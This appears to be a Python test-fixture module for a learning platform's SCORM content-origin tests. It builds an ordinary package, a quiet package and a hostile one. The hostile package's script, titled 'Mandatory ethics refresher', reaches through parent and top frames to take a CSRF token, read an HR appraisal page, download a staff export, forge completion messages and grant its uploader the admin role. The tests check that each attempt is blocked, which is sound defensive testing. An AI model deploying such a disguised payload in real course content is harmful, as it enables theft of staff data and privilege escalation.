"""Packages built here with ``zipfile`` for the content-origin tests: one that attacks whoever plays it, one that
plays, scores and resumes, one that floods the journal; and helpers to reach the content origin from tests.

The attack is the one reported in issue 13: the package's page looks for a CSRF token wherever it can, then
through ``window.parent``, ``window.top`` and its own ``fetch`` tries to read an appraisal page (``/hr/``), to
download the staff export and to grant its uploader the ``admin`` role. It writes what each attempt gave into its
own page (``#results``), which the test reads.
"""

from __future__ import annotations

import io
import re
import zipfile
from html import unescape

from learning.scorm import tokens

CONTENT_HOST = "http://127.0.0.1"  # CONTENT_ORIGIN's default in development and tests; the test client is on localhost


def _manifest(title: str, mastery: int | None = None) -> str:
    score = f"<adlcp:masteryscore>{mastery}</adlcp:masteryscore>" if mastery is not None else ""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="test.{title.lower().replace(' ', '-')}" version="1"
  xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="org"><organization identifier="org"><title>{title}</title>
    <item identifier="item_1" identifierref="res_1"><title>{title}</title>{score}</item></organization>
  </organizations>
  <resources><resource identifier="res_1" type="webcontent" adlcp:scormtype="sco" href="index.html">
    <file href="index.html"/><file href="sco.js"/></resource></resources>
</manifest>"""


def _zip(title: str, script: str, body: str = "", mastery: int | None = None) -> bytes:
    page = (f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{title}</title>"
            f"<script src='sco.js'></script></head><body><h1>{title}</h1>{body}"
            "<pre id='results'></pre></body></html>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("imsmanifest.xml", _manifest(title, mastery))
        archive.writestr("index.html", page)
        archive.writestr("sco.js", script)
    return buffer.getvalue()


EXPLOIT_JS = r"""
window.addEventListener('load', async function () {
  const results = {};
  const note = (label, value) => { results[label] = value; };
  const origins = Array.from(location.ancestorOrigins || []);
  const app = origins[origins.length - 1] || '';
  note('app origin found', app);
  let token = '';
  for (const [label, find] of [
      ['token in parent', () => parent.document.querySelector('[name=csrf_token], meta[name=csrf-token]')],
      ['token in top', () => top.document.querySelector('[name=csrf_token], meta[name=csrf-token]')]]) {
    try { const node = find(); token = token || (node && (node.value || node.content)) || '';
          note(label, node ? 'LEAK ' + token : 'none'); }
    catch (error) { note(label, 'blocked: ' + error.name); }
  }
  try { note('read top page', 'LEAK ' + top.document.body.innerHTML.slice(0, 80)); }
  catch (error) { note('read top page', 'blocked: ' + error.name); }
  const tries = {
    'read /hr/ with fetch': () => fetch(app + '/hr/', {credentials: 'include'}),
    'read /hr/ through parent': () => parent.fetch(app + '/hr/', {credentials: 'include'}),
    'read /hr/ through top': () => top.fetch(app + '/hr/', {credentials: 'include'}),
    'staff export with fetch': () => fetch(app + '/directory/employees/export.csv', {credentials: 'include'}),
    'staff export through parent': () => parent.fetch(app + '/directory/employees/export.csv',
                                                       {credentials: 'include', mode: 'no-cors'}),
    'grant admin with fetch': () => fetch(app + '/directory/accounts/' + window.UPLOADER + '/roles', {
        method: 'POST', credentials: 'include', mode: 'no-cors',
        headers: {'Content-Type': 'application/x-www-form-urlencoded', 'X-CSRFToken': token},
        body: 'csrf_token=' + encodeURIComponent(token) + '&grant-role=admin&grant-unit_code='}),
    'grant admin through parent': () => parent.fetch(app + '/directory/accounts/' + window.UPLOADER + '/roles', {
        method: 'POST', credentials: 'include', mode: 'no-cors',
        body: new URLSearchParams({'csrf_token': token, 'grant-role': 'admin', 'grant-unit_code': ''})}),
  };
  for (const [label, attempt] of Object.entries(tries)) {
    try { const response = await attempt();
          note(label, response.type === 'opaque' ? 'sent, unreadable' : 'LEAK ' + response.status + ' ' +
               (await response.text()).slice(0, 80)); }
    catch (error) { note(label, 'blocked: ' + error.name); }
  }
  try {
    const form = document.createElement('form');
    form.method = 'post'; form.action = app + '/directory/accounts/' + window.UPLOADER + '/roles';
    form.target = 'sink';
    for (const [name, value] of [['csrf_token', token], ['grant-role', 'admin'], ['grant-unit_code', '']]) {
      const input = document.createElement('input'); input.name = name; input.value = value; form.appendChild(input);
    }
    const sink = document.createElement('iframe'); sink.name = 'sink'; document.body.appendChild(sink);
    document.body.appendChild(form); form.submit();
    note('grant admin with a form', 'submitted');
  } catch (error) { note('grant admin with a form', 'blocked: ' + error.name); }
  try {  // pretend to be the wrapper: "your result is saved", "finished", "reload"
    for (const message of [{type: 'scorm:state', state: 'finished', status: 'passed'}, {type: 'scorm:replayed'}]) {
      top.postMessage(message, '*'); parent.parent.postMessage(message, '*');
    }
    note('forged messages to the lesson page', 'sent');
  } catch (error) { note('forged messages to the lesson page', 'blocked: ' + error.name); }
  await new Promise(resolve => setTimeout(resolve, 500));
  document.getElementById('results').textContent = JSON.stringify(results);
  document.title = 'done';
});
"""


def exploit_package(uploader_id: int) -> bytes:
    """The package of issue 13, aimed at the account ``uploader_id`` (the learning administrator who uploaded it)."""
    return _zip("Mandatory ethics refresher", f"window.UPLOADER = {uploader_id};\n" + EXPLOIT_JS)


NORMAL_JS = r"""
window.addEventListener('load', function () {
  const api = window.parent.API;
  api.LMSInitialize('');
  const out = document.getElementById('results');
  if (api.LMSGetValue('cmi.core.entry') === 'resume') {
    out.textContent = 'Resumed at ' + api.LMSGetValue('cmi.core.lesson_location') + ' with ' +
      api.LMSGetValue('cmi.suspend_data');
    api.LMSSetValue('cmi.core.score.raw', '90');
    api.LMSSetValue('cmi.core.lesson_status', 'passed');
    api.LMSSetValue('cmi.core.session_time', '0000:02:00');
    api.LMSFinish('');
  } else {
    api.LMSSetValue('cmi.core.lesson_location', 'slide-3');
    api.LMSSetValue('cmi.suspend_data', 'answered=1,2');
    api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
    api.LMSSetValue('cmi.core.exit', 'suspend');
    api.LMSSetValue('cmi.core.session_time', '0000:01:00');
    api.LMSFinish('');
    out.textContent = 'First visit';
  }
});
"""


def normal_package() -> bytes:
    """A SCO that suspends on its first launch and passes with 90 on the next, showing what it resumed from."""
    return _zip("Ordinary lesson", NORMAL_JS)


QUIET_JS = "/* driven by the test through window.API */"


def quiet_package(mastery: int | None = None) -> bytes:
    """A SCO that does nothing by itself: the test drives ``window.API`` in the wrapper as a SCO would."""
    return _zip("A quiet SCO", QUIET_JS, "<p>It waits for the API to be driven.</p>", mastery)


def wrapper_url(lesson_page: str) -> str:
    """The content origin's wrapper framed by a lesson page (its HTML)."""
    frame = re.search(r'<iframe id="scorm-frame"[^>]*\ssrc="([^"]+)"', lesson_page)
    assert frame, "the lesson page frames no wrapper"
    return unescape(frame.group(1))


def token_of(url: str) -> str:
    return re.search(r"/learn/scorm/w/([^/?#]+)", url).group(1)


def grant_of(url: str) -> tokens.Grant:
    grant = tokens.for_files(token_of(url))
    assert grant is not None
    return grant


def file_url(token: str, path: str) -> str:
    return f"{CONTENT_HOST}/learn/scorm/c/{token}/{path}"


def commit_url(token: str) -> str:
    return f"{CONTENT_HOST}/learn/scorm/w/{token}/commit"
